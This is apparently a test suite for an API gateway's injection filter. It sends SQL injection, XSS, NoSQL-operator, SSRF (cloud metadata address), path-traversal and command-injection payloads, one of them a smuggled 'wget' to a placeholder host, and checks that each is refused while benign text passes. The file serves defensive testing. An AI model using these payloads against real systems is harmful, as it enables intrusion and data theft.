import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { startGateway, type TestGateway } from '../helpers/gateway.js';
import { startUpstream, type TestUpstream } from '../helpers/upstream.js';

const SPEC = `
openapi: 3.1.0
info: { title: t, version: '1' }
paths:
  /items:
    post:
      parameters:
        - { name: sort, in: query, schema: { type: string, enum: [name, price] } }
        - { name: q, in: query, schema: { type: string } }
      requestBody:
        content:
          application/json:
            schema:
              type: object
              properties:
                name: { type: string }
                code: { type: string, pattern: '^[A-Za-z0-9 ;=-]+$' }
                website: { type: string, format: uri }
      responses:
        '200': { description: ok }
`;

describe('waf.injection through the running gateway', () => {
  let upstream: TestUpstream;
  let gw: TestGateway;

  before(async () => {
    upstream = await startUpstream();
    gw = await startGateway(
      {
        upstreams: { echo: { targets: [{ url: upstream.url }] } },
        routes: [
          {
            name: 'spec',
            match: { pathPrefix: '/spec' },
            upstream: 'echo',
            public: true,
            openapi: { spec: 'api.yaml', basePath: '/spec', validateRequests: false },
            injection: {},
          },
          {
            name: 'validated',
            match: { pathPrefix: '/validated' },
            upstream: 'echo',
            public: true,
            openapi: { spec: 'api.yaml', basePath: '/validated', responses: { mode: 'off' } },
            injection: {},
          },
          {
            name: 'blocked',
            match: { pathPrefix: '/api' },
            upstream: 'echo',
            public: true,
            injection: { exclude: [{ field: '/body/snippet', classes: ['xss'] }] },
          },
          {
            name: 'strict',
            match: { pathPrefix: '/strict' },
            upstream: 'echo',
            public: true,
            injection: { paranoia: 2 },
          },
          {
            name: 'report',
            match: { pathPrefix: '/report' },
            upstream: 'echo',
            public: true,
            injection: { mode: 'report' },
          },
          { name: 'off', match: { pathPrefix: '/off' }, upstream: 'echo', public: true },
        ],
      },
      { files: { 'api.yaml': SPEC } },
    );
  });
  after(async () => {
    await gw.close();
    await upstream.close();
  });

  const post = (path: string, body: unknown) =>
    fetch(gw.url + path, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });

  test('a SQL injection in the query is refused with 403 request_blocked and never reaches the upstream', async () => {
    const before = upstream.requests.length;
    const res = await fetch(gw.url + '/api/search?q=' + encodeURIComponent("' OR '1'='1' --"));
    assert.equal(res.status, 403);
    assert.equal(res.headers.get('content-type'), 'application/problem+json');
    const problem = (await res.json()) as Record<string, unknown>;
    assert.equal(problem.code, 'request_blocked');
    assert.equal(JSON.stringify(problem).includes('OR'), false, 'the payload is not echoed');
    assert.equal(upstream.requests.length, before);
  });

  test('SQL injection with a number touching the word (`1or 1=1`) is refused in a JSON body and a query', async () => {
    for (const payload of [
      '1or 1=1',
      '-1or 2>1',
      '1and 1=1',
      '1union select null',
      '0x1or 1=1',
      '0x1or true',
    ])
      assert.equal((await post('/api/comments', { id: payload })).status, 403, payload);
    for (const payload of ['1or true', '0x1or 1=1', '0XABor true']) {
      const res = await fetch(gw.url + '/api/search?id=' + encodeURIComponent(payload));
      assert.equal(res.status, 403, payload);
      await res.body?.cancel();
    }
    assert.equal(
      (await post('/api/comments', { address: '3rd floor, 75002 Paris', qty: '1 kg' })).status,
      200,
    );
  });

  test('SQL logic words between tabs, newlines, \\v, \\f or comments are refused in a JSON body and a query', async () => {
    const payloads = ['1\tor\ttrue', '1\nor\ntrue', '1\ror\r1', '1\u000bor\u000b1', '1\u000cor 1'];
    for (const payload of [...payloads, "x'\tor\t'1'='1", '1/**/or/**/1=1']) {
      assert.equal((await post('/api/comments', { id: payload })).status, 403, JSON.stringify(payload));
      const res = await fetch(gw.url + '/api/search?id=' + encodeURIComponent(payload));
      assert.equal(res.status, 403, JSON.stringify(payload));
      await res.body?.cancel();
    }
    const benign = { address: '12 Rue de la Paix\n75002 Paris', note: 'Call me\nor text me' };
    assert.equal((await post('/api/comments', benign)).status, 200);
  });

  test('exec of an MSSQL xp_/sp_ procedure is refused at the default level without other punctuation', async () => {
    for (const payload of ['exec xp_cmdshell', "exec xp_cmdshell 'dir'", 'EXECUTE sp_executesql x']) {
      assert.equal((await post('/api/comments', { name: payload })).status, 403, payload);
      const res = await fetch(gw.url + '/api/search?q=' + encodeURIComponent(payload));
      assert.equal(res.status, 403, payload);
      await res.body?.cancel();
    }
    assert.equal((await post('/api/comments', { name: 'execx xp_cmdshell' })).status, 200);
  });

  test('system catalogue names in a value with a dot are refused at the default level', async () => {
    for (const payload of [
      'pg_catalog.pg_user',
      '0PG_CATALOG.PG_USER',
      'select name from pg_catalog.pg_tables',
    ]) {
      assert.equal((await post('/api/comments', { name: payload })).status, 403, payload);
      const res = await fetch(gw.url + '/api/search?q=' + encodeURIComponent(payload));
      assert.equal(res.status, 403, payload);
      await res.body?.cancel();
    }
    assert.equal(
      (await post('/api/comments', { name: 'pg_user', note: 'Ask the master. He knows.' })).status,
      200,
    );
  });

  test('bare SQL statements are refused at paranoia 2 (query and JSON body), not at the default level', async () => {
    const statements = ['drop table users', 'delete from users', 'exec thetable', 'truncate table users'];
    const aliased = [
      'delete from users u where 1=1',
      'update users u set role=admin',
      'delete u from users u where 1=1',
    ];
    for (const payload of [
      ...statements,
      'insert into users values(1)',
      'update users set role=admin',
      ...aliased,
    ]) {
      assert.equal((await post('/strict/comments', { name: payload })).status, 403, payload);
      const res = await fetch(gw.url + '/strict/search?q=' + encodeURIComponent(payload));
      assert.equal(res.status, 403, payload);
      await res.body?.cancel();
    }
    for (const payload of statements) {
      const res = await fetch(gw.url + '/api/search?q=' + encodeURIComponent(payload));
      assert.equal(res.status, 200, payload);
      await res.body?.cancel();
    }
    assert.equal((await post('/strict/comments', { note: 'Please update your address' })).status, 200);
  });

  test('a level-2 SQL function after a `(` that opens the value is refused at paranoia 2', async () => {
    for (const payload of ['(a) char(65)', '(1) concat(0x61,0x62)']) {
      assert.equal((await post('/strict/comments', { name: payload })).status, 403, payload);
      const res = await fetch(gw.url + '/strict/search?q=' + encodeURIComponent(payload));
      assert.equal(res.status, 403, payload);
      await res.body?.cancel();
    }
    assert.equal((await post('/strict/comments', { note: '(a) see chapter 3' })).status, 200);
  });

  test('XSS in a JSON body is refused; benign text with apostrophes passes', async () => {
    assert.equal((await post('/api/comments', { comment: '<img src=x onerror=alert(1)>' })).status, 403);
    const ok = await post('/api/comments', {
      comment: "O'Brien said: select the best option from the menu",
      n: 3,
    });
    assert.equal(ok.status, 200);
    const echoed = (await ok.json()) as { body: string };
    assert.deepEqual(JSON.parse(echoed.body), {
      comment: "O'Brien said: select the best option from the menu",
      n: 3,
    });
  });

  test('after request validation (body parsed once, shared): attacks in free text are refused, honest text passes', async () => {
    const before = upstream.requests.length;
    assert.equal(
      (await post('/validated/items', { name: "x' UNION SELECT password FROM users --" })).status,
      403,
    );
    assert.equal((await post('/validated/items', { name: 'a;wget http://x.example/y' })).status, 403);
    assert.equal((await post('/validated/items', { website: 'http://169.254.169.254/' })).status, 403);
    assert.equal(upstream.requests.length, before, 'nothing refused reached the upstream');
    assert.equal(
      (await post('/validated/items', { name: "O'Reilly; see you & thanks", code: 'A;B=1' })).status,
      200,
    );
    assert.equal(
      (await post('/validated/items', { name: 'x', extra: 1 })).status,
      400,
      'validation still runs first',
    );
  });

  test('NoSQL operators as JSON keys and bracketed query keys are refused', async () => {
    assert.equal((await post('/api/login', { user: 'admin', password: { $ne: null } })).status, 403);
    assert.equal((await fetch(gw.url + '/api/login?user=admin&password[$ne]=x')).status, 403);
  });

  test('per-field exclusion: xss excluded for /body/snippet only, other classes still checked there', async () => {
    assert.equal((await post('/api/posts', { snippet: '<script>alert(1)</script>' })).status, 200);
    assert.equal((await post('/api/posts', { title: '<script>alert(1)</script>' })).status, 403);
    assert.equal((await post('/api/posts', { snippet: "'; DROP TABLE users; --" })).status, 403);
  });

  test('SSRF: a URL field pointing at the metadata address or at a name resolving to loopback is refused', async () => {
    assert.equal(
      (await post('/api/hooks', { callback: 'http://169.254.169.254/latest/meta-data/' })).status,
      403,
    );
    assert.equal((await post('/api/hooks', { callback: 'http://0x7f.1:8080/' })).status, 403);
    assert.equal((await post('/api/hooks', { callback: 'http://localhost:6379/' })).status, 403);
    assert.equal((await post('/api/hooks', { callback: 'https://93.184.215.14/hook' })).status, 200);
  });

  test('report mode lets the request through, logs the finding (never the value) and counts it', async () => {
    const res = await fetch(
      gw.url + '/report/x?q=' + encodeURIComponent('1 UNION SELECT password FROM users'),
    );
    assert.equal(res.status, 200);
    const line = gw.logs.find((l) => l.msg === 'injection detected (report only)');
    assert.ok(line, 'a report log line is written');
    assert.deepEqual((line as { injection: unknown }).injection, {
      class: 'sqli',
      rule: 'sqli.union-select',
      field: '/query/q',
      mode: 'report',
    });
    assert.equal(gw.logText().includes('UNION SELECT password'), false);
  });

  test('with an OpenAPI operation, constrained fields are left to validation and URL fields get the SSRF check', async () => {
    const postSpec = (query: string, body: unknown) =>
      fetch(gw.url + '/spec/items' + query, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify(body),
      });
    assert.equal((await postSpec('', { name: 'Ann', code: '1; DROP TABLE users' })).status, 200);
    assert.equal((await postSpec('', { name: '1; DROP TABLE users' })).status, 403);
    assert.equal((await postSpec('?sort=' + encodeURIComponent("' OR 1=1--"), { name: 'Ann' })).status, 200);
    assert.equal((await postSpec('?q=' + encodeURIComponent("' OR 1=1--"), { name: 'Ann' })).status, 403);
    assert.equal((await postSpec('', { website: 'http://[::ffff:127.0.0.1]/' })).status, 403);
    assert.equal((await postSpec('', { website: 'https://93.184.215.14/' })).status, 200);
  });

  test('path segments are inspected when the route has no path parameters', async () => {
    assert.equal(
      (await fetch(gw.url + '/api/items/1%20UNION%20SELECT%20password%20FROM%20users')).status,
      403,
    );
    assert.equal((await fetch(gw.url + '/api/items/%3Cscript%3Ealert(1)')).status, 403);
    assert.equal((await fetch(gw.url + "/api/people/O'Brien")).status, 200);
  });

  test('multipart bodies: text fields and file names are inspected, file contents are not', async () => {
    const form = (name: string, value: string | Blob, filename?: string) => {
      const data = new FormData();
      if (filename === undefined) data.append(name, value);
      else data.append(name, value as Blob, filename);
      return fetch(gw.url + '/api/upload', { method: 'POST', body: data });
    };
    assert.equal((await form('comment', '<script>alert(1)</script>')).status, 403);
    assert.equal((await form('avatar', new Blob(['x']), '../../../etc/passwd')).status, 403);
    assert.equal((await form('avatar', new Blob(['<script>alert(1)</script>']), 'me.png')).status, 200);
    assert.equal((await form('comment', "O'Brien's photo")).status, 200);
  });

  test('a JSON body sent as text/plain (or without a type) is still inspected; plain text too', async () => {
    const send = (body: string, type?: string) =>
      fetch(gw.url + '/api/x', {
        method: 'POST',
        body,
        ...(type === undefined ? {} : { headers: { 'content-type': type } }),
      });
    assert.equal((await send('{"password": {"$ne": null}}', 'text/plain')).status, 403);
    assert.equal((await send('<comment><script>alert(1)</script></comment>', 'application/xml')).status, 403);
    assert.equal((await send("just O'Brien's note", 'text/plain')).status, 200);
    assert.equal((await send('<script>alert(1)</script>', 'application/octet-stream')).status, 200);
  });

  test('routes without the section are not inspected', async () => {
    assert.equal(
      (await fetch(gw.url + '/off/x?q=' + encodeURIComponent('<script>alert(1)</script>'))).status,
      200,
    );
  });
});
